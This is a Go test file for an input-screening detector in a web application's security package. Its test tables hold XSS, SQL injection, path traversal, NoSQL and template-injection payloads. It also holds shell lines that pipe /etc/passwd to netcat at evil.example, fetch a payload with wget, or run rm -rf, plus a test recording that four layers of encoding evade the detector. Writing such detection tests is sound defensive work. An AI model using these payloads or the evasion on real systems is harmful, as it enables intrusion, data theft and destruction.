package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestIsSuspicious_XSS(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  bool
	}{
		{name: "script tag", input: `<script>alert(1)</script>`, want: true},
		{name: "script tag with spaces", input: `< script >alert(1)`, want: true},
		{name: "iframe", input: `<iframe src="https://evil.example"></iframe>`, want: true},
		{name: "event handler", input: `<img src=x onerror=alert(1)>`, want: true},
		{name: "javascript scheme", input: `javascript:alert(document.cookie)`, want: true},
		{name: "vbscript scheme", input: `vbscript:msgbox(1)`, want: true},
		{name: "eval call", input: `eval(atob("YWxlcnQoMSk="))`, want: true},
		{name: "css expression", input: `width: expression(alert(1))`, want: true},
		{name: "plain french text", input: "Bonjour, je souhaite un devis pour mon entreprise.", want: false},
		{name: "empty", input: "", want: false},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, IsSuspicious(tc.input))
		})
	}
}

func TestIsSuspicious_EncodedPayloads(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  bool
	}{
		{name: "percent encoded script", input: `%3Cscript%3Ealert(1)%3C/script%3E`, want: true},
		{name: "entity encoded script", input: `&lt;script&gt;alert(1)&lt;/script&gt;`, want: true},
		{name: "numeric entity script", input: `&#60;script&#62;alert(1)`, want: true},
		{name: "hex entity script", input: `&#x3c;script&#x3e;`, want: true},
		{name: "bare hex bracket", input: `3Cscript3E`, want: true},
		{name: "js escape bracket", input: `\x3cscript\x3e`, want: true},
		{name: "double percent encoded", input: `%253Cscript%253E`, want: true},
		{name: "plus as space decode", input: `%3Cscript%3E+alert(1)`, want: true},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, IsSuspicious(tc.input))
		})
	}
}

func TestIsSuspicious_SQLInjection(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  bool
	}{
		{name: "union select", input: "1 UNION SELECT username, password FROM users", want: true},
		{name: "or 1=1", input: "admin' OR 1=1 --", want: true},
		{name: "quoted boolean", input: "' or 'a'='a", want: true},
		{name: "drop table", input: "Robert'); DROP TABLE clients;--", want: true},
		{name: "time blind sleep", input: "1; SELECT SLEEP(5)", want: true},
		{name: "waitfor delay", input: "1'; WAITFOR DELAY '0:0:5'--", want: true},
		{name: "mysql hash comment with boolean", input: "' OR 1=1 #", want: true},
		{name: "bare semicolon hash", input: "prix; #interne", want: false},
		{name: "entity decode residue", input: "&amp;#60;div", want: false},
		{name: "xp_cmdshell", input: "EXEC xp_cmdshell('dir')", want: true},
		{name: "normal sentence with select word absent", input: "Je voudrais changer mon contrat auto.", want: false},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, IsSuspicious(tc.input))
		})
	}
}

func TestIsSuspicious_OtherCategories(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  bool
	}{
		{name: "path traversal", input: "../../etc/passwd", want: true},
		{name: "windows traversal", input: `..\..\windows\system32`, want: true},
		{name: "encoded traversal", input: "%2e%2e%2fetc%2fpasswd", want: true},
		{name: "nosql where", input: `{"$where": "this.password.length > 0"}`, want: true},
		{name: "nosql ne", input: `{"password": {"$ne": null}}`, want: true},
		{name: "command chain", input: "test; rm -rf /", want: true},
		{name: "pipe to netcat", input: "cat /etc/passwd | nc evil.example 4444", want: true},
		{name: "wget download", input: "wget http://evil.example/payload", want: true},
		{name: "powershell", input: "powershell -enc SQBFAFgA", want: true},
		{name: "template mustache", input: "{{constructor.constructor('alert(1)')()}}", want: true},
		{name: "template dollar", input: "${7*7}", want: true},
		{name: "template erb", input: "<%= system('id') %>", want: true},
		{name: "ldap filter", input: "*)(uid=*))(|(uid=*", want: true},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, IsSuspicious(tc.input))
		})
	}
}

// Three rounds of decoding are detected; four rounds evade. The bound is
// a documented limitation, asserted here so a change to it is a conscious
// decision rather than an accident. Each ampersand layer needs one decode
// round to peel.
func TestDecodeBound(t *testing.T) {
	payload := "&#60;script"

	wrap := func(s string) string {
		return "&amp;" + s[1:]
	}

	threeLayers := wrap(wrap(wrap(payload)))
	assert.True(t, IsSuspicious(threeLayers), "three layers of encoding must be decoded")

	fourLayers := wrap(threeLayers)
	assert.False(t, IsSuspicious(fourLayers), "four layers of encoding evade the bounded decoder")
}

func TestDecodeInput_NeverPanicsOnMalformed(t *testing.T) {
	inputs := []string{
		"%",
		"%zz",
		"%3",
		"&#xZZ;",
		"\xff\xfe",
		"%%%%%%",
	}
	for _, in := range inputs {
		assert.NotPanics(t, func() { _ = DecodeInput(in) })
		assert.NotPanics(t, func() { _ = IsSuspicious(in) })
	}
}

func TestMatchSignatures(t *testing.T) {
	matched := MatchSignatures(`<script>alert(1)</script>`)
	assert.Contains(t, matched, "xss-script-tag")

	assert.Empty(t, MatchSignatures("Bonjour"))
}

func TestSignatureCatalogIntegrity(t *testing.T) {
	seen := map[string]bool{}
	for _, sig := range Signatures() {
		assert.NotEmpty(t, sig.ID)
		assert.NotEmpty(t, sig.Category)
		assert.NotNil(t, sig.Pattern)
		assert.False(t, seen[sig.ID], "duplicate signature id %s", sig.ID)
		seen[sig.ID] = true
	}
}
